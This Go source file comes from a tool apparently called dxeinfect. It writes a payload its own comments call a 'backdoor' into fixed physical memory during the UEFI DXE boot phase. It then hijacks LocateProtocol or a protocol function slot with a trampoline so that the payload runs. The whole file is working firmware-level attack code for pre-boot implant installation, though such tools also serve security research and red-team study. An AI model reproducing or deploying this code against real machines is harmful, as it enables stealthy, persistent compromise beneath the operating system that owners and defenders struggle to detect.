package hook

import (
	"errors"
	"fmt"

	"github.com/google/uuid"

	"github.com/zboralski/dxeinfect/internal/log"
	"github.com/zboralski/dxeinfect/internal/payload"
	"github.com/zboralski/dxeinfect/internal/protocoldb"
	"github.com/zboralski/dxeinfect/internal/transport"
)

const (
	// BackdoorAddr is the fixed physical address the patched payload is
	// planted at.
	BackdoorAddr = uint64(0xC0000)

	// StubAddr is the fixed physical address the protocol-method
	// trampoline is written to.
	StubAddr = uint64(0x10000)

	// StatusAddr is the base of the two-qword status cell the installer
	// clears before arming a hook. Its semantics belong to the payload;
	// the core never reads it back (spec.md §9).
	StatusAddr = uint64(0x1000 - 16)

	// DefaultHookGUID is EFI_CPU_IO2_PROTOCOL_GUID, the default target
	// for the protocol hook method.
	DefaultHookGUID = "ad61f191-ae5f-4c0e-b9fa-e869d288c64f"

	// DefaultHookSlot is the default interface function slot patched by
	// the protocol hook method.
	DefaultHookSlot = 2

	// EFISystemTableBootServices is the offset of the BootServices
	// pointer within EFI_SYSTEM_TABLE.
	EFISystemTableBootServices = 0x60

	// EFIBootServicesLocateProtocol is the offset of the LocateProtocol
	// function pointer within EFI_BOOT_SERVICES.
	EFIBootServicesLocateProtocol = 0x140
)

// Method selects which hook variant Install uses.
type Method int

const (
	// SystemTable hooks BootServices->LocateProtocol directly; no
	// trampoline is emitted.
	SystemTable Method = iota
	// Protocol hooks a chosen interface function slot via a trampoline.
	Protocol
)

func validDXEAddr(val uint64) bool {
	return val > 0x1000 && val < 0xffffffff
}

// ErrNoMatchingInterface is returned when the protocol method's target
// GUID has no installed interface.
var ErrNoMatchingInterface = errors.New("hook: no matching protocol interface")

// SystemTableParams carries the addresses the system-table method needs.
type SystemTableParams struct {
	SystemTable    uint64
	BootServices   uint64
	LocateProtocol uint64
}

// ProtocolParams carries the addresses and selectors the protocol method
// needs.
type ProtocolParams struct {
	ProtocolEntry uint64
	GUID          uuid.UUID
	Slot          int
}

// Result records what Install actually wrote, for callers and tests that
// want to assert on the final state.
type Result struct {
	EntryAddr   uint64
	PatchPtr    uint64
	PatchVal    uint64
	StubWritten bool
	StubAddr    uint64
}

// plantPayload performs the three shared steps common to both hook
// methods: patch the payload's .conf record, write it to BackdoorAddr,
// and clear the status cell. It returns the in-memory entry point.
func plantPayload(t transport.Transport, logger *log.Logger, payloadData []byte, locateProtocol, systemTable uint64) (uint64, error) {
	prepared, err := payload.PreparePayload(payloadData, locateProtocol, systemTable)
	if err != nil {
		return 0, fmt.Errorf("hook: prepare payload: %w", err)
	}

	logger.Hook("plant-payload", log.Size(uint64(len(prepared.Data))), log.Ptr("backdoor_addr", BackdoorAddr))
	if err := t.Write(BackdoorAddr, prepared.Data); err != nil {
		return 0, fmt.Errorf("hook: write payload: %w", err)
	}

	if err := t.WriteU64(StatusAddr, 0); err != nil {
		return 0, fmt.Errorf("hook: clear status cell: %w", err)
	}
	if err := t.WriteU64(StatusAddr+8, 0); err != nil {
		return 0, fmt.Errorf("hook: clear status cell: %w", err)
	}

	return BackdoorAddr + uint64(prepared.EntryRVA), nil
}

// InstallSystemTable implements the system-table hook method (spec.md
// §4.6.b): the payload's own entry point replaces LocateProtocol
// directly, with no trampoline.
func InstallSystemTable(t transport.Transport, logger *log.Logger, payloadData []byte, p SystemTableParams) (Result, error) {
	if !validDXEAddr(p.LocateProtocol) {
		return Result{}, fmt.Errorf("hook: invalid locate_protocol 0x%x", p.LocateProtocol)
	}

	entryAddr, err := plantPayload(t, logger, payloadData, p.LocateProtocol, p.SystemTable)
	if err != nil {
		return Result{}, err
	}

	patchPtr := p.BootServices + EFIBootServicesLocateProtocol
	logger.Hook("hook-locate-protocol", log.Ptr("patch_ptr", patchPtr), log.Ptr("entry_addr", entryAddr))

	if err := t.WriteU64(patchPtr, entryAddr); err != nil {
		return Result{}, fmt.Errorf("hook: swap LocateProtocol pointer: %w", err)
	}

	return Result{EntryAddr: entryAddr, PatchPtr: patchPtr, PatchVal: entryAddr}, nil
}

// InstallProtocol implements the protocol hook method (spec.md §4.6.c):
// it locates the chosen protocol's interface, synthesizes the
// trampoline, writes it to StubAddr, and arms the hook with a single
// qword write.
func InstallProtocol(t transport.Transport, logger *log.Logger, payloadData []byte, p ProtocolParams) (Result, error) {
	interfaces, err := protocoldb.CollectByGUID(t, p.ProtocolEntry, p.GUID)
	if err != nil {
		return Result{}, fmt.Errorf("hook: collect interfaces: %w", err)
	}
	if len(interfaces) == 0 {
		return Result{}, ErrNoMatchingInterface
	}
	interfaceAddr := interfaces[0]

	entryAddr, err := plantPayload(t, logger, payloadData, 0, 0)
	if err != nil {
		return Result{}, err
	}

	patchPtr := interfaceAddr + uint64(p.Slot)*8
	patchVal, err := t.ReadU64(patchPtr)
	if err != nil {
		return Result{}, fmt.Errorf("hook: read original function pointer: %w", err)
	}
	if !validDXEAddr(patchVal) {
		return Result{}, fmt.Errorf("hook: invalid original function pointer 0x%x at 0x%x", patchVal, patchPtr)
	}

	logger.Hook("build-trampoline", log.Ptr("patch_ptr", patchPtr), log.Ptr("patch_val", patchVal), log.Ptr("entry_addr", entryAddr))
	stub := BuildStub(patchVal, patchPtr, entryAddr)

	if err := t.Write(StubAddr, stub[:]); err != nil {
		return Result{}, fmt.Errorf("hook: write trampoline: %w", err)
	}

	// Linearization point: a single atomic 8-byte store arms the hook.
	logger.Hook("arm-hook", log.Ptr("patch_ptr", patchPtr), log.Ptr("stub_addr", StubAddr))
	if err := t.WriteU64(patchPtr, StubAddr); err != nil {
		return Result{}, fmt.Errorf("hook: arm hook: %w", err)
	}

	return Result{
		EntryAddr:   entryAddr,
		PatchPtr:    patchPtr,
		PatchVal:    patchVal,
		StubWritten: true,
		StubAddr:    StubAddr,
	}, nil
}

// Install dispatches to the method-specific installer (spec.md §4.6.d).
// Exactly one of st/prot is consulted, per method.
func Install(t transport.Transport, logger *log.Logger, method Method, payloadData []byte, st SystemTableParams, prot ProtocolParams) (Result, error) {
	switch method {
	case SystemTable:
		return InstallSystemTable(t, logger, payloadData, st)
	case Protocol:
		return InstallProtocol(t, logger, payloadData, prot)
	default:
		return Result{}, fmt.Errorf("hook: unknown method %d", method)
	}
}
